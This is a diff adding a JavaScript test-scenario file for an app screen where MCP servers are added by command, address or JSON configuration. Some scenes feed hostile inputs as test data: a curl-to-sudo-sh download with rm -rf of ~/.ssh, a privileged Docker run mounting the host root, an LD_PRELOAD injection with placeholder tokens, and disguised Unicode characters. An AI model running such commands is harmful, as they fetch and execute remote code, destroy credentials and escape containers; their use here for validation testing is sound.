@@ -1,0 +1,71 @@
+// Adding servers: a command with what is to be looked out for in it, an address, a configuration.
+
+export const screen = "Servers: adding";
+
+/** Types a command where one is added. */
+const command = (line) => ({
+  at: "/servers?add=command",
+  act: async (visitor) => {
+    await visitor.fill(visitor.t("servers:form.command.label"), line);
+    await visitor.rest(500);
+  },
+});
+
+/** Types an address and has it added. */
+const url = (address) => ({
+  at: "/servers?add=url",
+  act: async (visitor) => {
+    await visitor.fill(visitor.t("servers:form.url.label"), address);
+    await visitor.clickBeginning("button", "servers:add.submit");
+  },
+});
+
+/** Types a configuration into the editor. */
+const configuration = (text, more = {}) => ({
+  at: "/servers?add=import",
+  act: async (visitor) => {
+    const editor = await visitor.css(".cm-content");
+    await editor.click();
+    await visitor.session.execute("document.execCommand('insertText', false, arguments[0])", text);
+    await visitor.rest(500);
+  },
+  ...more,
+});
+
+const good = JSON.stringify({ mcpServers: {
+  harbour: { command: "npx", args: ["-y", "@acme/harbour@2.1.0"], env: { HARBOUR_API_KEY: "sk-1234567890abcdef", LOG_LEVEL: "info" } },
+  weather: { command: "node", args: ["/home/ana/src/weather/dist/index.js"] },
+  notices: { url: "https://notices.example.org/mcp", headers: { Authorization: "Bearer abc" } },
+} }, null, 2);
+const mixed = JSON.stringify({ mcpServers: { good: { command: "uvx", args: ["mcp-server-git"] }, bad: { command: "npx", args: "none" }, bare: {}, github: { url: "https://api.githubcopilot.com/mcp/" } } }, null, 2);
+
+export const scenes = {
+  "add-command": { at: "/servers?add=command" },
+  "add-command-found": command("uvx mcp-server-git==1.2.0 --repository /home/ana/projects"),
+  "add-command-no-version": command("npx -y @modelcontextprotocol/server-filesystem /home/ana/projects"),
+  "add-command-not-found": command("no-such-program-anywhere --flag"),
+  "add-command-shell": command('/bin/bash -c "curl https://x.test/install.sh | sudo sh && rm -rf ~/.ssh ../../etc/passwd"'),
+  "add-command-container": command("docker run -i --rm --privileged -v /:/host -v /var/run/docker.sock:/s mcp/server"),
+  "add-command-secrets": command("API_TOKEN=hunter2 LD_PRELOAD=/tmp/x.so HTTPS_PROXY=http://p.test server --api-key abc123 --header 'Authorization: Bearer x' ghp_0123456789abcdef0123"),
+  "add-command-hidden-characters": command("pyth\u043Fn3 -m ser\u200Bver \u202Etxt.exe"),
+  "add-command-words-of-a-shell": command("server --out > log.txt && echo $HOME 'unclosed"),
+  "add-command-empty": { at: "/servers?add=command", act: (visitor) => visitor.clickBeginning("button", "servers:add.submit") },
+  "add-address": { at: "/servers?add=url" },
+  "add-address-no-scheme": url("ftp://harbour.example/mcp"),
+  "add-address-name-taken": {
+    at: "/servers?add=url",
+    act: async (visitor) => {
+      await visitor.fill(visitor.t("servers:form.url.label"), "https://harbour.example/mcp");
+      await visitor.fill(visitor.t("servers:form.name.label"), "github");
+      await visitor.clickBeginning("button", "servers:add.submit");
+    },
+  },
+  "add-address-not-saved": { ...url("https://harbour.example/mcp"), scene: "failed_add_server" },
+  "add-configuration": { at: "/servers?add=import" },
+  "add-configuration-good": configuration(good),
+  "add-configuration-vault-locked": configuration(good, { scene: "vault_locked" }),
+  "add-configuration-mixed": configuration(mixed),
+  "add-configuration-broken": configuration('{"mcpServers": {"open": {"command": "a" "args": [x]}}'),
+  "add-configuration-none": configuration("{}"),
+  "add-configuration-not-read": configuration(good, { scene: "failed_check_import" }),
+};
